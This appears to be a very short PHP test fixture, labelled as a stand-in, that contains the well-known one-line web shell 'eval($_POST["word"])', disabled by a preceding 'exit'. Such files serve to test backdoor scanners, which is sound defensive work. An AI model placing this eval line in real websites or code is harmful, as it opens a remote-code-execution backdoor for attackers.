<?php exit; // stand-in for a test: stops here
eval($_POST["word"]);
